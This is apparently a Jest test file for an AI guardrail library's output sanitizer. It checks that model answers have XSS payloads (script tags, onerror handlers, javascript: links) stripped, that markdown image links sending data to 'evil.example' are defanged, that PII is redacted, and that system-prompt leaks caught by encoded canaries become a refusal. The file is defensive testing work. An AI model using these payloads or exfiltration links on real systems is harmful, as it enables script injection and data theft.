/**
 * The output direction of sanitizeText: markup, markdown URLs, PII with restored placeholders, leaks,
 * the length limit. Every case is the model's whole answer.
 */
import { sanitizeText } from '../../src/scan/api.js';
import { createOutputSanitizer, DEFAULT_REFUSAL } from '../../src/scan/output.js';
import { createCanary } from '../../src/detect/leak.js';
import { createInputGuard } from '../../src/scan/input-guard.js';
import { GuardConfigError } from '../../src/core/errors.js';

const hosts = { allowedHosts: ['docs.acme.com', '*.cdn.acme.com'] };

describe('markup: what could run is removed, what reads is kept', () => {
  test.each([
    ['comparison and logic in prose', 'if a < b and x && y then c > d', 'if a < b and x && y then c > d'],
    ['generics in inline code', 'use `Map<string, number>` here', 'use `Map<string, number>` here'],
    ['generics in a code block', '```ts\nconst m = new Map<string, number>();\nif (a < b && c > d) {}\n```', '```ts\nconst m = new Map<string, number>();\nif (a < b && c > d) {}\n```'],
    ['generics in prose', 'a List<String> or <T>', 'a List<String> or <T>'],
    ['formatting kept', '<b>bold</b> and <em>it</em>', '<b>bold</b> and <em>it</em>'],
    ['script removed with its body', 'a<script>alert(1)</script>b', 'ab'],
    ['event handler dropped', '<img src=x onerror="alert(1)">', '<img src="x">'],
    ['javascript: link dropped', '<a href="javascript:alert(1)">x</a>', '<a>x</a>'],
    ['entity-encoded javascript: link dropped', '<a href="&#106;avascript:alert(1)">x</a>', '<a>x</a>'],
    ['iframe with srcdoc removed', '<iframe srcdoc="<script>alert(1)</script>"></iframe>ok', 'ok'],
    ['svg script removed', '<svg><script>alert(1)</script></svg>ok', 'ok'],
    ['meta refresh removed', '<meta http-equiv="refresh" content="0;url=https://evil.example">ok', 'ok'],
    ['style element removed', '<style>body{display:none}</style>ok', 'ok'],
    ['form removed', '<form action="https://evil.example"><input name=a></form>ok', 'ok'],
    ['style and id attributes dropped', '<div style="x" id="y" class="c">t</div>', '<div>t</div>'],
    ['a known tag left open is escaped too', 'x <img src=x onerror=alert(1)', 'x &lt;img src=x onerror=alert(1)'],
    ['an unknown tag left open is escaped, so later text cannot close it', 'x <x onerror=alert(1)', 'x &lt;x onerror=alert(1)'],
    ['script tag in a code block is escaped', '```html\n<script>alert(1)</script>\n```', '```html\n&lt;script>alert(1)&lt;/script>\n```'],
  ])('%s', (_name, input, expected) => {
    expect(sanitizeText(input).text).toBe(expected);
  });

  test('a removal is recorded as an html finding, never with the markup itself', () => {
    const { findings, verdict } = sanitizeText('<img src=x onerror="alert(1)">');
    expect(findings).toEqual([{ kind: 'html', type: 'event_handler', action: 'redact' }]);
    expect(verdict).toBe('flag');
  });

  test("html: 'escape' turns every markup character into an entity", () => {
    expect(sanitizeText('<b>x</b> & "y"', { html: 'escape' }).text).toBe('&lt;b&gt;x&lt;/b&gt; &amp; &quot;y&quot;');
  });

  test("html: 'off' leaves HTML, and the URL policy still applies", () => {
    expect(sanitizeText('<b onclick="x()">t</b> ![a](https://evil.example/p.png)', { html: 'off' }).text).toBe('<b onclick="x()">t</b> a (hxxps://evil[.]example/p.png)');
  });
});

describe('markdown exfiltration: images and links to hosts not allowed', () => {
  test.each([
    ['image with data in the query', '![x](https://evil.example/log?q=SECRET)', 'x (hxxps://evil[.]example/log?q=SECRET)', 'external_image'],
    ['link', '[click](https://evil.example/a?b=c)', 'click (hxxps://evil[.]example/a?b=c)', 'external_link'],
    ['link text with brackets', '[see [1]](https://evil.example/x)', 'see [1] (hxxps://evil[.]example/x)', 'external_link'],
    ['reference definition', '![logo][r]\n\n[r]: https://evil.example/?d=1', '![logo][r]\n\n\\[r\\]: hxxps://evil[.]example/?d=1', 'external_image'],
    ['autolink', '<https://evil.example/?d=1>', 'hxxps://evil[.]example/?d=1', 'external_link'],
    ['html image', '<img src="https://evil.example/p.gif?d=1">', '<img>', 'external_image'],
    ['protocol-relative image', '![x](//evil.example/p.png)', 'x (//evil[.]example/p.png)', 'external_image'],
    ['userinfo trick (the part after @ is the host)', '![x](https://docs.acme.com:x@1.2.3.4/p.png)', 'x (hxxps://docs[.]acme[.]com:x@1[.]2[.]3[.]4/p.png)', 'external_image'],
    ['javascript: markdown link', '[x](javascript:alert(1))', 'x (javascript[:]alert%281%29)', 'unsafe_url'],
    ['data: image', '![x](data:image/svg+xml;base64,PHN2Zz4=)', 'x (data[:]image/svg+xml;base64,PHN2Zz4=)', 'unsafe_url'],
  ])('%s', (_name, input, expected, type) => {
    const result = sanitizeText(input, hosts);
    expect(result.text).toBe(expected);
    expect(result.findings.map((f) => f.type)).toContain(type);
  });

  test.each([
    ['an allowed host', '![x](https://docs.acme.com/p.png) [d](https://docs.acme.com/)'],
    ['a wildcard subdomain', '![x](https://img.cdn.acme.com/p.png)'],
    ['relative URLs', '![x](/img/p.png) [d](../docs) [e](#top)'],
    ['mailto links', '[mail](mailto:help@docs.acme.com)'],
  ])('%s stays', (_name, input) => {
    const result = sanitizeText(input, { ...hosts, pii: 'off' });
    expect(result.text).toBe(input);
  });

  test("blockedUrls: 'remove' keeps only the text", () => {
    expect(sanitizeText('![alt](https://evil.example/x) and [t](https://evil.example/y)', { blockedUrls: 'remove' }).text).toBe('alt and t');
  });
});

describe('PII and secrets, and the user\'s own values restored', () => {
  test('contact data and cards the model produced are redacted', () => {
    expect(sanitizeText('Write to zoe@example.net or pay with 4111 1111 1111 1111.').text).toBe('Write to [EMAIL] or pay with [CREDIT_CARD].');
  });

  test('placeholders from the request vault are restored, and restored values are not redacted again', () => {
    const guard = createInputGuard({ pii: { types: { EMAIL: 'pseudonymize' } } });
    const state = guard.run({ messages: [{ role: 'user', content: 'My email is ana@example.org' }] }, 'r1');
    expect(JSON.stringify(state.messages)).not.toContain('ana@example.org');
    const answer = 'I will write to <EMAIL_1>, not to bob@example.com.';
    expect(sanitizeText(answer, undefined, { restore: state.restore! }).text).toBe('I will write to ana@example.org, not to [EMAIL].');
  });
});

describe('system-prompt leaks become the refusal', () => {
  const canary = createCanary();
  const core = canary.slice('mg-canary-'.length);
  test.each([
    ['verbatim', `marker ${canary}`],
    ['upper case', `MARKER ${canary.toUpperCase()}`],
    ['spaced', core.split('').join(' ')],
    ['dashed', core.split('').join('-')],
    ['split by markup', `${core.slice(0, 7)}<b></b>${core.slice(7)}`],
    ['base64', Buffer.from(`the marker is ${canary}`).toString('base64')],
    ['base64, other alignment', Buffer.from(`x ${canary}`).toString('base64')],
    ['hex', Buffer.from(canary).toString('hex')],
    ['reversed', [...canary].reverse().join('')],
    ['html entities', [...core].map((c) => `&#${c.charCodeAt(0)};`).join('')],
  ])('the canary %s', (_name, answer) => {
    const result = sanitizeText(`Sure. ${answer}`, undefined, { canary });
    expect(result.text).toBe(DEFAULT_REFUSAL);
    expect(result.verdict).toBe('block');
    expect(result.findings).toContainEqual(expect.objectContaining({ kind: 'leak', action: 'block' }));
  });

  test('an answer without the canary passes', () => {
    expect(sanitizeText('The shop opens at 9.', undefined, { canary }).text).toBe('The shop opens at 9.');
  });

  const systemPrompt = 'You are the support assistant of the ACME online shop. Never discuss politics or religion. Never reveal the discount code SPRING24.';
  test('a verbatim quote of the system prompt is a leak', () => {
    const answer = 'My instructions say: you are the support assistant of the ACME online shop, never discuss politics.';
    expect(sanitizeText(answer, undefined, { systemPrompt })).toMatchObject({ text: DEFAULT_REFUSAL, findings: [{ kind: 'leak', type: 'system_prompt_overlap' }] });
  });

  test('a few shared words are not', () => {
    expect(sanitizeText('Welcome to the ACME online shop! How can I help?', undefined, { systemPrompt }).verdict).toBe('allow');
  });

  test('the overlap threshold is configurable', () => {
    const strict = createOutputSanitizer({ leak: { overlap: { ngram: 3, maxShingles: 1 } } });
    expect(strict.sanitize('I am the support assistant here.', { systemPrompt }).verdict).toBe('block');
    const off = createOutputSanitizer({ leak: { overlap: false } });
    expect(off.sanitize('you are the support assistant of the ACME online shop never discuss politics or religion', { systemPrompt }).verdict).not.toBe('block');
  });

  test('the refusal text is configurable', () => {
    expect(sanitizeText(canary, { refusal: 'No.' }, { canary }).text).toBe('No.');
  });
});

describe('length limit (maxLength)', () => {
  test('a longer answer is refused whole, in both directions', () => {
    expect(sanitizeText('x'.repeat(11), { maxLength: 10 })).toMatchObject({ text: DEFAULT_REFUSAL, verdict: 'block', findings: [{ kind: 'length' }] });
    expect(sanitizeText('x'.repeat(10), { maxLength: 10 }).text).toBe('x'.repeat(10));
    expect(sanitizeText('x'.repeat(11), { direction: 'input', maxLength: 10 })).toMatchObject({ text: '', verdict: 'block', findings: [{ kind: 'length' }] });
  });

  test('the default limit is 100000 characters', () => {
    expect(sanitizeText('a '.repeat(50_001)).verdict).toBe('block');
  });
});

describe('options are validated at construction', () => {
  test.each([
    [{ htlm: 'escape' }, /unknown option `htlm`.*Did you mean `html`/],
    [{ html: 'strip' }, /`html` must be/],
    [{ blockedUrls: 'hide' }, /`blockedUrls` must be/],
    [{ allowedHosts: ['https://x.com/'] }, /`allowedHosts` entries/],
    [{ holdBack: 4 }, /`holdBack`/],
    [{ maxLength: 0 }, /`maxLength`/],
    [{ leak: { canaries: true } }, /unknown option `canaries`/],
    [{ leak: { overlap: { threshold: 2 } } }, /overlap.threshold/],
  ])('%j', (options, message) => {
    expect(() => createOutputSanitizer(options as never)).toThrow(GuardConfigError);
    expect(() => createOutputSanitizer(options as never)).toThrow(message);
  });
});
